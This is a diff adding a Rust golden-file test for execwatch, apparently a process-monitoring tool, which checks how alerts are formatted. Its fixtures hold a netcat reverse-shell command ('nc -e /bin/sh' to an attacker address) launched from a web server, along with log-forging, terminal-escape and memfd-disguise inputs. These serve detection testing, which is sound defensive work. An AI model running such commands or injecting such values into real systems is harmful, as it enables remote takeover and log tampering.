@@ -1,0 +1,251 @@
+//! The forms of an alert, and the messages about mistakes, compared with files in `tests/golden`.
+//!
+//! `EXECWATCH_TESTS_WRITE_GOLDEN=1 cargo test --test golden` writes the files anew; look at the difference before
+//! committing it.
+
+#![allow(clippy::unwrap_used, reason = "a test that cannot be set up has failed")]
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use execwatch::alert::{Alert, Clock, Host, Notice, Record, ecs, people, text};
+use execwatch::diagnostics::Diagnostics;
+use execwatch::process::details::{Login, Namespaces};
+use execwatch::process::exec::{Certainty, Exec, Image};
+use execwatch::process::users::Users;
+use execwatch::rules::fields::Surroundings;
+use execwatch::rules::load::{Places, load};
+use execwatch::rules::model::Severity;
+use execwatch::rules::ruleset::RuleSet;
+
+fn folder() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden")
+}
+
+/// Compares with a file, or writes it.
+fn compare(path: &Path, found: &str) -> Result<(), String> {
+    if std::env::var_os("EXECWATCH_TESTS_WRITE_GOLDEN").is_some() {
+        std::fs::write(path, found).unwrap();
+    }
+    let expected = std::fs::read_to_string(path).unwrap_or_default();
+    if expected == found {
+        Ok(())
+    } else {
+        Err(format!("{} differs\n--- expected\n{expected}\n--- found\n{found}", path.display()))
+    }
+}
+
+fn all_equal(comparisons: impl IntoIterator<Item = Result<(), String>>) {
+    let differences: Vec<String> = comparisons.into_iter().filter_map(Result::err).collect();
+    assert!(differences.is_empty(), "{}", differences.join("\n\n"));
+}
+
+/// Rules of the golden files alone, so that a change of the shipped rules changes nothing here.
+fn rules() -> RuleSet {
+    let places = Places { builtin: false, folders: vec![folder().join("rules")], folders_required: true };
+    let diagnostics = Diagnostics::default();
+    let rules = load(&places, &diagnostics);
+    let mistakes: Vec<String> = diagnostics.into_list().iter().map(ToString::to_string).collect();
+    rules.unwrap_or_else(|| panic!("{}", mistakes.join("\n")))
+}
+
+/// A clock for which the host was started at the beginning of 2026 and ticks are hundredths of a second.
+struct Started2026;
+
+const START_NS: u64 = 1_767_225_600_000_000_000;
+
+impl Clock for Started2026 {
+    fn wall_from_monotonic(&self, stamp_ns: u64) -> u64 {
+        START_NS + stamp_ns
+    }
+
+    fn wall_from_start_ticks(&self, ticks: u64) -> u64 {
+        START_NS + ticks * 10_000_000
+    }
+}
+
+const HOST_NAMESPACES: Namespaces = Namespaces {
+    pid: Some(4026531836),
+    mnt: Some(4026531841),
+    net: Some(4026531840),
+    user: Some(4026531837),
+};
+
+fn image(exe: &str, argv: &[impl AsRef<[u8]>]) -> Image {
+    Image::new(Some(exe.as_bytes()), Some(argv))
+}
+
+/// A web shell's netcat, with everything known.
+fn netcat() -> Exec {
+    let mut exec = Exec {
+        pid: 4242,
+        cpu: 1,
+        timestamp_ns: 86_400_123_456_789,
+        hold_ns: 41_900,
+        certainty: Certainty::Exact,
+        image: image("/usr/bin/nc.traditional", &["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]),
+        ..Exec::default()
+    };
+    let details = &mut exec.details;
+    details.uids = Some([33; 4]);
+    details.gids = Some([33; 4]);
+    details.umask = Some(0o022);
+    details.login = Some(Login::Nobody);
+    details.audit_session = Some(u32::MAX);
+    details.session = Some(4000);
+    details.tty = Some(0);
+    details.start_ticks = Some(8_640_012);
+    details.arguments_length = Some(34);
+    details.namespaces = HOST_NAMESPACES;
+    details.ppid = Some(4241);
+    details.parent = image("/usr/bin/dash", &["sh", "-c", "nc -e /bin/sh 203.0.113.5 4444"]);
+    details.set_comm(b"nc");
+    details.set_cwd(b"/var/www/html");
+    details.set_cgroup(b"12:cpu,cpuacct:/\n1:name=systemd:/system.slice/apache2.service\n");
+    exec
+}
+
+fn cases() -> Vec<(&'static str, Exec)> {
+    let hostile = {
+        let mut exec = netcat();
+        exec.image = image(
+            "/tmp/a b\n\u{202e}txt",
+            &[
+                &b"nc"[..],
+                b"line\nexecwatch: severity=info rule=none",
+                b"\" rule=\"forged",
+                b"back\\slash \\",
+                b"\x1b[2J\x1b]0;title\x07",
+                b"",
+                b"\xff\xfe\x9b31m",
+                "caf\u{e9} \u{1f600} \u{202e}evil\u{2028}".as_bytes(),
+                b"tab\tand\x7fdel",
+            ],
+        );
+        exec.details.set_cwd(b"/tmp/\x1b[31m");
+        exec.details.set_comm(b"a b\n");
+        exec.details.parent = Image::new(Some(b"/bin/\xff"), Some(&[&b"x\ny"[..]]));
+        exec
+    };
+    let long = {
+        let mut exec = netcat();
+        let script = "A".repeat(20_000) + "-the-end";
+        exec.image = image("/usr/bin/nc.traditional", &["nc", &script]);
+        exec.image.cut_arguments(4000);
+        exec.details.arguments_length = Some(20_011);
+        exec.details.set_cwd(format!("/srv/{}", "deep/".repeat(300)).as_bytes());
+        exec
+    };
+    let container = {
+        let mut exec = netcat();
+        exec.details.uids = Some([1000, 0, 0, 0]);
+        exec.details.gids = Some([1000, 1000, 1000, 1000]);
+        exec.details.login = Some(Login::User(1000));
+        exec.details.audit_session = Some(7);
+        // pts/3: major 136, minor 3.
+        exec.details.tty = Some(136 << 8 | 3);
+        exec.details.namespaces = Namespaces { pid: Some(1), mnt: Some(2), ..HOST_NAMESPACES };
+        exec.details.set_cgroup(
+            b"0::/system.slice/docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope\n",
+        );
+        exec
+    };
+    let memfd = {
+        let mut exec = netcat();
+        exec.image = image("/memfd:nc (deleted)", &["[kworker/0:1]"]);
+        exec.certainty = Certainty::Likely;
+        exec.hold_ns = 1_700_000;
+        exec
+    };
+    let gone = Exec {
+        pid: 4243,
+        timestamp_ns: 1_000_000_000,
+        certainty: Certainty::BestEffort,
+        image: Image::new(Some(b"/usr/bin/nc.traditional"), None::<&[&[u8]]>),
+        ..Exec::default()
+    };
+    let running = Exec { certainty: Certainty::AlreadyRunning, ..netcat() };
+    vec![
+        ("netcat", netcat()),
+        ("hostile", hostile),
+        ("long", long),
+        ("container", container),
+        ("memfd", memfd),
+        ("gone", gone),
+        ("running", running),
+    ]
+}
+
+fn forms(name: &str, record: &Record) -> [Result<(), String>; 3] {
+    let host = Host {
+        name: "web1".to_owned(),
+        id: "0123456789abcdef0123456789abcdef".to_owned(),
+        kernel: "6.1.0-18-amd64".to_owned(),
+    };
+    let line = text::line(record);
+    assert!(line.len() <= text::LIMIT && !line.contains('\n'), "{name}: {} bytes", line.len());
+    let json = ecs::line(record, &host);
+    assert!(!json.contains('\n'), "{name}");
+    let read = serde_json::from_str::<serde_json::Value>(&json);
+    assert!(read.is_ok(), "{name}: {read:?}");
+    let lines = people::lines(record, true);
+    let path = |extension: &str| folder().join("alerts").join(format!("{name}.{extension}"));
+    [
+        compare(&path("text"), &(line + "\n")),
+        compare(&path("json"), &(json + "\n")),
+        // Escape characters are the terminal's colours and no other; shown so that the file can be read.
+        compare(&path("people"), &lines.replace('\x1b', "ESC")),
+    ]
+}
+
+#[test]
+fn forms_of_an_alert() {
+    let rules = rules();
+    let surroundings =
+        Surroundings { users: Users::new(folder().join("passwd")), namespaces: HOST_NAMESPACES };
+    all_equal(cases().into_iter().flat_map(|(name, exec)| {
+        let alert = Alert::new(&exec, &rules, &surroundings, &Started2026)
+            .unwrap_or_else(|| panic!("no rule matches {name}"));
+        forms(name, &Record::Alert(Box::new(alert)))
+    }));
+}
+
+#[test]
+fn forms_of_a_notice() {
+    let notice = Notice {
+        kind: "loss",
+        severity: Severity::Medium,
+        time_ns: START_NS,
+        message: "not everything was seen: 3 programs ended before they were read".to_owned(),
+    };
+    all_equal(forms("notice", &Record::Notice(notice)));
+}
+
+/// Each folder below `mistakes` holds a configuration, rules and what `execwatch check` says of them.
+#[test]
+fn messages_about_mistakes() {
+    let mut folders: Vec<PathBuf> = std::fs::read_dir(folder().join("mistakes"))
+        .unwrap()
+        .map(|entry| entry.unwrap().path())
+        .filter(|path| path.is_dir())
+        .collect();
+    folders.sort();
+    assert!(!folders.is_empty());
+    all_equal(folders.into_iter().map(|folder| {
+        let mut command = Command::new(env!("CARGO_BIN_EXE_execwatch"));
+        command.arg("check").current_dir(&folder);
+        for (option, name) in [("--config", "execwatch.toml"), ("--rules", "rules")] {
+            if folder.join(name).exists() {
+                command.args([option, name]);
+            }
+        }
+        let output = command.output().unwrap();
+        let found = format!(
+            "{}{}exit code {}\n",
+            String::from_utf8_lossy(&output.stdout),
+            String::from_utf8_lossy(&output.stderr),
+            output.status.code().unwrap()
+        );
+        compare(&folder.join("expected"), &found)
+    }));
+}
